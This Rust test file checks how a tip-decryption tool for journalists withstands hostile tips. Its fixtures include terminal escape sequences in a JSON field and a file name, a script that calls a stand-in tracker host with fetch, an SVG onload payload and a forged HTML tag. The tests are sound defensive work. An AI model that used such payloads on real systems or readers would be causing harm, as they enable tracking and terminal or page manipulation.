//! The reading desk as a journalist meets it with hostile tips (issue 13,
//! items 2 to 6): escape bytes never reach the terminal and nothing is
//! dropped, opened tips are private, an interrupted open leaves no
//! plaintext, web attachments are downloads, and a desk grows bundle by
//! bundle.
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use tipbox::bundle::{KeySetId, TipId};

use crate::helpers::*;

/// No byte of an escape sequence (ESC, BEL, CSI) in anything printed.
fn assert_no_control_bytes(out: &std::process::Output) {
    for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        let text = String::from_utf8_lossy(bytes);
        let bad: Vec<char> = text
            .chars()
            .filter(|c| c.is_control() && *c != '\n')
            .collect();
        assert!(bad.is_empty(), "{stream} carries {bad:?}: {text:?}");
    }
}

// --- item 2: escape bytes ---------------------------------------------------

#[test]
fn unknown_kind_with_escape_bytes_reaches_no_terminal_and_the_tip_is_kept_whole() {
    let dir = tempfile::tempdir().unwrap();
    let keys = keygen(dir.path(), "key.txt");
    // ESC [2J clears the screen; ESC ] 0 ; … BEL retitles the window.
    let tip_json = r#"{"version":1,"kind":"\u001b[2J\u001b]0;pwned\u0007","encrypted_by":"cli","language":"en","message":"the evidence","attachments":[]}"#;
    let sealed = hostile_tip(
        std::slice::from_ref(&keys.recipient),
        tip_json,
        &[("files/leak.pdf", b"%PDF-1.7 the leaked document")],
    );
    let (bytes, ids) = bundle(&[sealed]);
    let input = dir.path().join("export.tar");
    write(&input, &bytes);
    let out_dir = dir.path().join("desk");

    let out = open_cmd(&keys, &input, &out_dir);

    assert!(out.status.success(), "{}", stderr(&out));
    assert_no_control_bytes(&out);
    assert!(
        stderr(&out).contains("tip.json cannot be used"),
        "{}",
        stderr(&out)
    );
    assert!(stdout(&out).contains("not a tipbox container: kept whole"));
    // Nothing the source sent is dropped: the whole plaintext is one file.
    let kept = std::fs::read(
        out_dir
            .join(ids[0].to_string())
            .join("files/unrecognised-content.bin"),
    )
    .unwrap();
    assert!(kept.windows(12).any(|w| w == b"the evidence"));
    assert!(kept
        .windows(28)
        .any(|w| w == b"%PDF-1.7 the leaked document"));
}

#[test]
fn error_lines_carry_no_escape_bytes_from_a_file_name() {
    // A file name the journalist was handed, echoed back in the error line.
    let dir = tempfile::tempdir().unwrap();
    let keys = keygen(dir.path(), "key.txt");
    let input = dir.path().join("\u{1b}[31mred\u{7}.tar");
    write(&input, b"neither an age file nor a bundle");
    let out = open_cmd(&keys, &input, &dir.path().join("desk"));
    assert!(!out.status.success());
    assert_no_control_bytes(&out);
}

// --- item 3: permissions ----------------------------------------------------

#[cfg(unix)]
#[test]
fn opened_tips_are_0600_files_in_0700_folders_under_umask_022() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let keys = keygen(dir.path(), "key.txt");
    let sealed = sealed_tip(
        std::slice::from_ref(&keys.recipient),
        "private",
        &[("a.txt", b"attachment")],
    );
    let (bytes, ids) = bundle(&[sealed]);
    let input = dir.path().join("export.tar");
    write(&input, &bytes);
    let out_dir = dir.path().join("desk");

    // The umask most systems start with: without care, 0644 and 0755.
    let out = run(Command::new("sh")
        .arg("-c")
        .arg("umask 022; exec \"$0\" open -i \"$1\" \"$2\" -o \"$3\"")
        .arg(env!("CARGO_BIN_EXE_tipbox-decrypt"))
        .arg(&keys.identity)
        .arg(&input)
        .arg(&out_dir));
    assert!(out.status.success(), "{}", stderr(&out));

    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let tip = out_dir.join(ids[0].to_string());
    assert_eq!(mode(&out_dir), 0o700, "the desk folder");
    for folder in [tip.clone(), tip.join("files")] {
        assert_eq!(mode(&folder), 0o700, "{}", folder.display());
    }
    // Among them the files `open` writes itself, not only the source's.
    for ours in ["bundle-entry.json", "metadata.json", "message.txt"] {
        assert!(tip.join(ours).is_file(), "{ours}");
    }
    assert!(out_dir.join("index.html").is_file());
    for file in tree(&out_dir) {
        let path = out_dir.join(&file);
        if path.is_file() {
            assert_eq!(mode(&path), 0o600, "{}", file.display());
        }
    }
}

// --- item 4: interrupted opens ----------------------------------------------

fn partials(dir: &Path) -> Vec<String> {
    std::fs::read_dir(dir)
        .map(|entries| {
            entries
                .filter_map(Result::ok)
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .filter(|name| name.starts_with(".tipbox-partial-"))
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn sigterm_during_open_removes_the_unfinished_folder() {
    let dir = tempfile::tempdir().unwrap();
    let keys = keygen(dir.path(), "key.txt");
    // Large enough that the open is still writing when the signal comes.
    let big = noise(96 * 1024 * 1024, 3);
    let sealed = sealed_tip(
        std::slice::from_ref(&keys.recipient),
        "big",
        &[("big.bin", &big)],
    );
    drop(big);
    let input = dir.path().join("big.age");
    write(&input, &sealed);
    drop(sealed);
    let out_dir = dir.path().join("desk");

    let child = decrypt_cmd()
        .args(["open", "-i"])
        .arg(&keys.identity)
        .arg(&input)
        .arg("-o")
        .arg(&out_dir)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // Wait until plaintext is being written into the hidden folder.
    let started = Instant::now();
    let unfinished = loop {
        let found = partials(&out_dir);
        let written = found.iter().any(|name| {
            std::fs::metadata(out_dir.join(name).join("files/big.bin")).is_ok_and(|m| m.len() > 0)
        });
        if written {
            break found;
        }
        assert!(
            started.elapsed() < Duration::from_secs(60),
            "no unfinished folder appeared"
        );
        std::thread::sleep(Duration::from_millis(5));
    };
    assert!(!unfinished.is_empty());
    let killed = Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(killed.success());
    let out = child.wait_with_output().unwrap();

    assert_eq!(out.status.code(), Some(128 + 15), "{}", stderr(&out));
    assert!(stderr(&out).contains("interrupted"), "{}", stderr(&out));
    assert_eq!(
        partials(&out_dir),
        Vec::<String>::new(),
        "plaintext left behind"
    );
    assert!(
        !out_dir.join("big").exists(),
        "an unauthenticated tip released"
    );
}

#[test]
fn leftovers_of_a_killed_open_are_removed_at_the_next_run() {
    let dir = tempfile::tempdir().unwrap();
    let keys = keygen(dir.path(), "key.txt");
    let out_dir = dir.path().join("desk");
    // What SIGKILL (or a power cut) leaves: a hidden folder of plaintext
    // and a half-written index.
    let left = out_dir.join(".tipbox-partial-AbC123");
    std::fs::create_dir_all(left.join("files")).unwrap();
    write(&left.join("files/secret.pdf"), b"unauthenticated plaintext");
    write(&out_dir.join(".tipbox-partial-XyZ789"), b"<!DOCTYPE html>");
    let input = dir.path().join("one.age");
    write(
        &input,
        &sealed_tip(std::slice::from_ref(&keys.recipient), "hi", &[]),
    );

    let out = open_cmd(&keys, &input, &out_dir);

    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("removed 2 unfinished folder(s)"),
        "{}",
        stderr(&out)
    );
    assert!(partials(&out_dir).is_empty());
    assert!(out_dir.join("one/message.txt").exists());
}

// --- item 5: active attachments ---------------------------------------------

#[test]
fn web_attachments_are_downloads_on_the_desk_and_keep_their_warning() {
    let dir = tempfile::tempdir().unwrap();
    let keys = keygen(dir.path(), "key.txt");
    let script = b"<script>fetch('http://tracker.example/?opened')</script>";
    let input = dir.path().join("one.age");
    write(
        &input,
        &sealed_tip(
            std::slice::from_ref(&keys.recipient),
            "see attached",
            &[
                ("page.html", script),
                ("drawing.SVG", b"<svg onload=\"alert(1)\"/>"),
                ("doc.xhtml", script),
                ("photo.jpg", b"\xff\xd8\xff"),
            ],
        ),
    );
    let out_dir = dir.path().join("desk");
    assert!(open_cmd(&keys, &input, &out_dir).status.success());

    let desk = std::fs::read_to_string(out_dir.join("index.html")).unwrap();
    let link = |name: &str| {
        desk.lines()
            .find(|line| line.contains(&format!("files/{name}\"")))
            .unwrap_or_else(|| panic!("no link to {name}"))
            .to_owned()
    };
    for name in ["page.html", "drawing.SVG", "doc.xhtml"] {
        let line = link(name);
        assert!(line.contains("\" download>"), "{line}");
        assert!(line.contains("can run scripts"), "{line}");
    }
    assert!(!link("photo.jpg").contains("download"));
}

#[test]
fn the_desk_names_each_tips_language_and_escapes_a_hostile_tag() {
    let dir = tempfile::tempdir().unwrap();
    let keys = keygen(dir.path(), "key.txt");
    let recipients = std::slice::from_ref(&keys.recipient);
    let (bundle_bytes, _) = bundle(&[
        sealed_tip_in("fa", recipients, "a tip in Persian", &[]),
        sealed_tip_in("<b>zz", recipients, "a tip with a forged tag", &[]),
    ]);
    let input = dir.path().join("export.tar");
    write(&input, &bundle_bytes);
    let out_dir = dir.path().join("desk");
    assert!(open_cmd(&keys, &input, &out_dir).status.success());

    let desk = std::fs::read_to_string(out_dir.join("index.html")).unwrap();
    assert!(desk.contains("language Persian (fa)"), "{desk}");
    assert!(desk.contains("language unknown (&lt;b&gt;zz)"), "{desk}");
    assert!(!desk.contains("<b>zz"));
}

// --- item 6: everyday use -----------------------------------------------------

#[test]
fn next_bundle_opens_into_the_existing_desk_skipping_what_is_there() {
    let dir = tempfile::tempdir().unwrap();
    let keys = keygen(dir.path(), "key.txt");
    let recipients = std::slice::from_ref(&keys.recipient);
    let monday = sealed_tip(recipients, "Monday's tip", &[]);
    let tuesday = sealed_tip(recipients, "Tuesday's tip", &[]);
    let (first, first_ids) = bundle(std::slice::from_ref(&monday));
    // The next export still holds Monday's tip (not yet confirmed).
    let entries = [(first_ids[0], &monday), (TipId::random(), &tuesday)];
    let second = bundle_with(&entries, None);
    let out_dir = dir.path().join("desk");
    write(&dir.path().join("first.tar"), &first);
    write(&dir.path().join("second.tar"), &second);
    assert!(open_cmd(&keys, &dir.path().join("first.tar"), &out_dir)
        .status
        .success());
    std::fs::write(
        out_dir.join(first_ids[0].to_string()).join("notes.txt"),
        "staff notes",
    )
    .unwrap();

    let out = open_cmd(&keys, &dir.path().join("second.tar"), &out_dir);

    assert!(out.status.success(), "{}", stderr(&out));
    let table = stdout(&out);
    let monday_row = table
        .lines()
        .find(|l| l.starts_with(&first_ids[0].to_string()))
        .unwrap();
    assert!(
        monday_row.contains("already in the desk: skipped"),
        "{table}"
    );
    assert!(table.contains("Tuesday's tip"), "{table}");
    assert!(
        stderr(&out).contains("1 tips were already in"),
        "{}",
        stderr(&out)
    );
    assert_eq!(
        std::fs::read_to_string(out_dir.join(first_ids[0].to_string()).join("notes.txt")).unwrap(),
        "staff notes",
        "a tip already in the desk is left as it is"
    );
    let desk = std::fs::read_to_string(out_dir.join("index.html")).unwrap();
    assert!(desk.contains("Monday") && desk.contains("Tuesday"));
}

#[test]
fn the_desk_location_is_printed_as_an_absolute_path() {
    let dir = tempfile::tempdir().unwrap();
    let keys = keygen(dir.path(), "key.txt");
    write(
        &dir.path().join("one.age"),
        &sealed_tip(std::slice::from_ref(&keys.recipient), "hi", &[]),
    );
    let out = run(decrypt_cmd()
        .current_dir(dir.path())
        .args(["open", "-i"])
        .arg(&keys.identity)
        .args(["one.age", "-o", "desk"]));
    assert!(out.status.success(), "{}", stderr(&out));
    let index = dir.path().join("desk").join("index.html");
    let expected = format!(
        "Reading desk: {}",
        std::fs::canonicalize(&index).unwrap().display()
    );
    assert!(stdout(&out).contains(&expected), "{}", stdout(&out));
}

#[test]
fn wrong_key_names_the_needed_key_set_once_instead_of_a_row_per_tip() {
    let dir = tempfile::tempdir().unwrap();
    let newsroom = keygen(dir.path(), "newsroom.txt");
    let colleague = keygen(dir.path(), "colleague.txt");
    let recipients = std::slice::from_ref(&newsroom.recipient);
    let tips: Vec<_> = (0..3)
        .map(|i| sealed_tip(recipients, &format!("tip {i}"), &[]))
        .collect();
    let entries: Vec<_> = tips.iter().map(|t| (TipId::random(), t)).collect();
    let set = vec![newsroom.recipient.to_string()];
    let bytes = bundle_with(&entries, Some(&set));
    let input = dir.path().join("export.tar");
    write(&input, &bytes);

    let out = open_cmd(&colleague, &input, &dir.path().join("desk"));

    assert!(!out.status.success());
    let table = stdout(&out);
    assert_eq!(table.matches("FAILED").count(), 1, "{table}");
    assert!(table.contains("3 tips"), "{table}");
    let err = stderr(&out);
    let naming: Vec<&str> = err
        .lines()
        .filter(|l| l.contains(&newsroom.recipient.to_string()))
        .collect();
    assert_eq!(naming.len(), 1, "{err}");
    assert!(
        naming[0].contains(&KeySetId::of(&set).to_string()),
        "{}",
        naming[0]
    );
}
